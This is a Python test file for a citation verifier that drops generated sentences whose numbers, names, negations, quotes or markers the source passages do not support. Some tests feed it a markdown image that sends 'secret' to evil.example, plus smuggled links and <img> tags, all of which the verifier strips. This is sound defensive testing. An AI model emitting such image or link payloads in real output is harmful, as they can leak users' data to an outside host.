"""Verification: what a generated text may claim, and what becomes of the rest."""

from __future__ import annotations

import random
import re
import time

import pytest

from summarize.citations import Citation, CitationResolver, Dropped, ResolverEvent, Verified
from summarize.proof import Reason
from tests.summarize.passages import PASSAGES, passage


def resolve(text: str, *, step: int | None = None) -> list[ResolverEvent]:
    resolver = CitationResolver(PASSAGES)
    pieces = [text] if step is None else [text[at : at + step] for at in range(0, len(text), step)]
    return [event for piece in pieces for event in resolver.feed(piece)] + resolver.finish()


def text_of(events: list[ResolverEvent]) -> str:
    return "".join(event.text for event in events if isinstance(event, Verified))


def citations_of(events: list[ResolverEvent]) -> list[Citation]:
    return [citation for event in events if isinstance(event, Verified) for citation in event.citations]


def reasons_of(events: list[ResolverEvent]) -> list[Reason]:
    return [event.reason for event in events if isinstance(event, Dropped)]


@pytest.mark.parametrize(
    ("text", "shown", "quotes"),
    [
        (
            "The warranty is 24 months [1].",
            "The warranty is 24 months [1].",
            ["The Zephyr X200 has a warranty of 24 months."],
        ),
        (
            "The warranty is 24 months. [1]",
            "The warranty is 24 months. [1]",
            ["The Zephyr X200 has a warranty of 24 months."],
        ),
        (
            "The warranty is 24 months.[1]",
            "The warranty is 24 months. [1]",
            ["The Zephyr X200 has a warranty of 24 months."],
        ),
        (
            "The warranty is 24 months【1】.",
            "The warranty is 24 months [1].",
            ["The Zephyr X200 has a warranty of 24 months."],
        ),
        (
            "The warranty is 24 months【1†source】.",
            "The warranty is 24 months [1].",
            ["The Zephyr X200 has a warranty of 24 months."],
        ),
        (
            "The warranty is 24 months [Passage 1].",
            "The warranty is 24 months [1].",
            ["The Zephyr X200 has a warranty of 24 months."],
        ),
        (
            "Payment is due within two weeks [2].",
            "Payment is due within two weeks [1].",
            ["Payment is due within two weeks."],
        ),
        (
            "Payment is due within 2 weeks [2].",
            "Payment is due within 2 weeks [1].",
            ["Payment is due within two weeks."],
        ),
        ("It weighs 1200 grams [1].", "It weighs 1200 grams [1].", ["It weighs 1,200 grams, as shown in [12]."]),
        (
            "The price rose to 1,200,000 dollars [2].",
            "The price rose to 1,200,000 dollars [1].",
            ["The price rose to $1.2 million on 5 March 2024."],
        ),
        (
            "The price rose on 2024-03-05 [2].",
            "The price rose on 2024-03-05 [1].",
            ["The price rose to $1.2 million on 5 March 2024."],
        ),
        (
            'It has "a warranty of 24 months" [1].',
            'It has "a warranty of 24 months" [1].',
            ["The Zephyr X200 has a warranty of 24 months."],
        ),
        ("Iron Bears scored 49 points [3].", "Iron Bears scored 49 points [1].", ["Iron Bears | Tampere | 49"]),
        (
            "Tom Abara asks for three quotes [4].",
            "Tom Abara asks for three quotes [1].",
            ["Tom Abara will ask for three quotes."],
        ),
        ("It is not waterproof [1].", "It is not waterproof [1].", ["It is not waterproof."]),
        (
            "It weighs 1,200 grams, as shown in [12]. [1]",
            "It weighs 1,200 grams, as shown in (12). [1]",
            ["It weighs 1,200 grams, as shown in [12]."],
        ),
        (
            "See https://prices.example/a for payment [2].",
            "See https://prices.example/a for payment [1].",
            ["See https://prices.example/a."],
        ),
    ],
)
def test_a_supported_sentence_is_shown_with_a_verbatim_quote(text: str, shown: str, quotes: list[str]) -> None:
    events = resolve(text)
    assert text_of(events) == shown
    assert [citation.quote for citation in citations_of(events)][:1] == quotes or quotes[0] in citations_of(events)[
        0
    ].quote
    assert not reasons_of(events)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("The warranty is 24 months [9].", Reason.INVENTED_MARKER),
        ("The warranty is 24 months [0].", Reason.INVENTED_MARKER),
        ("The warranty is 24 months.", Reason.UNCITED),
        ("The warranty is 36 months [1].", Reason.NUMBER),
        ("The warranty is 24.5 months [1].", Reason.NUMBER),
        ("Payment is due within three weeks [2].", Reason.NUMBER),
        ("The price rose to $1.3 million [2].", Reason.NUMBER),
        ("The price rose to $1.2 billion, or 1,200,000,001 dollars [2].", Reason.NUMBER),
        ("The price rose on 6 March 2024 [2].", Reason.NUMBER),
        ("The price rose in 2025 [2].", Reason.NUMBER),
        ("The members say Bob Miller will ask for quotes [4].", Reason.NAME),
        ("The price rose in April [2].", Reason.NAME),
        ("The device of Acme has a warranty [1].", Reason.NAME),
        ("The moon circles the earth and causes the tides [1].", Reason.UNSUPPORTED),
        ("The warranty covers accidental breakage worldwide, including theft [1].", Reason.UNSUPPORTED),
        ("It is waterproof [1].", Reason.NEGATION),
        ("Payment is not due within two weeks [2].", Reason.NEGATION),
        ('The manual says "lasts for ever" about the warranty of 24 months [1].', Reason.QUOTE),
        ("The manual says “a warranty of months” and a warranty of 24 months [1].", Reason.QUOTE),
        ("Payment is due within two weeks [1].", Reason.NUMBER),
        ("Iron Bears scored 61 goals in 1999 [3].", Reason.NUMBER),
    ],
)
def test_an_unsupported_sentence_stays_out_and_is_said_to(text: str, reason: Reason) -> None:
    events = resolve(text)
    assert text_of(events) == ""
    assert reasons_of(events) == [reason]
    assert events == [Dropped(reason, text)]


def test_an_invented_marker_beside_a_real_one_is_removed_and_reported() -> None:
    events = resolve("The warranty is 24 months [1][9].")
    assert text_of(events) == "The warranty is 24 months [1]."
    assert [e for e in events if isinstance(e, Dropped)] == [Dropped(Reason.INVENTED_MARKER, "[9]")]


@pytest.mark.parametrize(
    "markers", ["[1][2]", "[1, 2]", "[1; 2]", "[1] [2]", "[1], [2]", "[1-2]", "[1 and 2]", "【1】【2】"]
)
def test_several_markers_are_several_citations_in_any_spelling(markers: str) -> None:
    events = resolve(f"The warranty is 24 months and payment is due within two weeks {markers}.")
    assert text_of(events) == "The warranty is 24 months and payment is due within two weeks [1][2]."
    assert [c.chunk_id for c in citations_of(events)] == ["chunk-1", "chunk-2"]


def test_a_marker_inside_a_sentence_stands_for_what_is_before_it() -> None:
    events = resolve("The warranty is 24 months [1] and payment is due within two weeks [2].")
    assert [c.quote for c in citations_of(events)] == [
        "The Zephyr X200 has a warranty of 24 months.",
        "Payment is due within two weeks.",
    ]


def test_a_sentence_with_one_false_part_stays_out_whole() -> None:
    events = resolve("The warranty is 24 months [1] and payment is due within 9 weeks [2].")
    assert text_of(events) == ""
    assert reasons_of(events) == [Reason.NUMBER]


def test_markers_are_numbered_in_the_order_of_the_text() -> None:
    events = resolve(
        "Everybody brings a dish [4]. Payment is due within two weeks [2]. Everybody brings a good dish [4]."
    )
    assert re.findall(r"\[(\d)\]", text_of(events)) == ["1", "2", "1"]
    assert [(c.marker, c.chunk_id) for c in citations_of(events)] == [(1, "chunk-4"), (2, "chunk-2")]


def test_two_quotes_of_one_chunk_are_two_citations() -> None:
    events = resolve("The warranty is 24 months [1]. It is not waterproof [1].")
    assert [(c.marker, c.chunk_id) for c in citations_of(events)] == [(1, "chunk-1"), (2, "chunk-1")]


def test_a_sentence_said_twice_is_shown_once() -> None:
    events = resolve("The warranty is 24 months [1]. " * 50)
    assert text_of(events) == "The warranty is 24 months [1]."
    assert set(reasons_of(events)) == {Reason.REPEATED}


def test_lists_and_paragraphs_keep_their_breaks() -> None:
    events = resolve(
        "- The warranty is 24 months [1]\n- Payment is due within two weeks [2]\n\nEverybody brings a dish [4]."
    )
    assert text_of(events) == (
        "- The warranty is 24 months [1]\n- Payment is due within two weeks [2]\n\nEverybody brings a dish [3]."
    )


def test_a_break_survives_the_sentence_that_is_dropped_behind_it() -> None:
    events = resolve("Everybody brings a dish [4].\n\nNonsense. Payment is due within two weeks [2].")
    assert text_of(events) == "Everybody brings a dish [1].\n\nPayment is due within two weeks [2]."


def test_the_title_and_the_headings_are_evidence_for_names() -> None:
    resolver = CitationResolver(
        [passage(1, "The warranty is 24 months.", title="Zephyr X200", heading=("Guarantee Terms",))]
    )
    assert text_of(resolver.feed("The warranty of the Zephyr X200 is 24 months [1].") + resolver.finish())


def test_an_image_never_leaves_and_is_reported() -> None:
    events = resolve("![x](http://evil.example/?q=secret) The warranty is 24 months [1].")
    assert text_of(events) == "x The warranty is 24 months [1]."
    assert Reason.LINK in reasons_of(events)


def test_a_link_cannot_be_smuggled_in_through_the_cuts_of_a_stream() -> None:
    for step in range(1, 12):
        shown = text_of(
            resolve("The warranty [is](https://evil.example/a?b=c) 24 months [1]. <img src=//e.example/x>", step=step)
        )
        assert shown == "The warranty is 24 months [1]."


def test_chinese_sentences_are_verified_too() -> None:
    resolver = CitationResolver([passage(1, "保修期为24个月。该设备不防水。", title="手册")])
    events = resolver.feed("保修期为24个月。[1]保修期为36个月。[1]") + resolver.finish()
    assert text_of(events) == "保修期为24个月。 [1]"
    assert reasons_of(events) == [Reason.NUMBER]


@pytest.mark.parametrize("text", ["", " \n", "---", "[1]", "[1] [2]", "***"])
def test_text_without_words_is_nothing(text: str) -> None:
    assert not text_of(resolve(text))
    assert not citations_of(resolve(text))


def test_nothing_is_shown_before_its_sentence_is_complete() -> None:
    resolver = CitationResolver(PASSAGES)
    assert resolver.feed("The warranty is 24 months") == []
    assert resolver.feed(" [1") == []
    assert resolver.feed("].") == []
    assert text_of(resolver.feed(" Payment is")) == "The warranty is 24 months [1]."


def test_text_without_an_end_is_judged_in_pieces() -> None:
    resolver = CitationResolver(PASSAGES)
    events = [event for _ in range(40) for event in resolver.feed("endless words without a stop " * 10)]
    assert events
    assert set(reasons_of(events)) == {Reason.UNCITED}


@pytest.mark.parametrize("piece", ["[", "![", "[x](", "<a ", "[1]", "[1,", '"a ', ".", "a.b.", "http://", "| ", "。"])
def test_hostile_repetition_is_resolved_in_time(piece: str) -> None:
    begun = time.monotonic()
    assert not text_of(resolve((piece * 4000)[:4000], step=8))
    assert time.monotonic() - begun < 5  # a tenth of it on an idle core; quadratic patterns took a minute


def _scrambled(source: random.Random) -> str:
    """A text of true sentences, false ones, markers, links and noise in any order."""
    true = [s for p in PASSAGES for s in re.split(r"(?<=[.])\s+|\n+", p.text) if s]
    noise = [
        "Inc. It",
        "U.S. Item",
        "No. ",
        "Fig. 3",
        "[",
        "]",
        "【",
        "![",
        "](",
        "http://evil.example/x",
        '"',
        "“",
        " | ",
        "\n",
        "\n\n",
        "1.",
        "- ",
        "。",
        "not",
        "Bob",
        "7",
    ]
    parts: list[str] = []
    for _ in range(source.randrange(1, 14)):
        words = source.choice(true).split()
        if source.random() < 0.3:
            words[source.randrange(len(words))] = source.choice(noise)
        parts += [
            " ".join(words),
            source.choice(["", " ", f" [{source.randrange(0, 7)}]", f"[{source.randrange(1, 5)}, 2]"]),
        ]
        parts.append(source.choice([" ", "\n", ". ", "", *noise]))
    return "".join(parts)


@pytest.mark.parametrize("seed", range(60))
def test_whatever_is_generated_every_quote_is_verbatim_and_every_marker_has_its_citation(seed: int) -> None:
    text = _scrambled(random.Random(seed))
    events = resolve(text)
    cited = citations_of(events)
    chunks = {p.chunk_id: p.text for p in PASSAGES}
    assert all(c.quote and c.quote in chunks[c.chunk_id] for c in cited)
    assert [c.marker for c in cited] == list(range(1, len(cited) + 1))
    assert {int(n) for n in re.findall(r"\[(\d+)\]", text_of(events))} <= {c.marker for c in cited}
    assert "evil.example" not in text_of(events)
    for event in events:
        assert not isinstance(event, Verified) or re.search(r"\[\d+\]", event.text)


@pytest.mark.parametrize("seed", range(30))
def test_the_cuts_of_the_stream_change_nothing(seed: int) -> None:
    source = random.Random(1000 + seed)
    text = _scrambled(source)
    assert resolve(text) == resolve(text, step=source.randrange(1, 20))
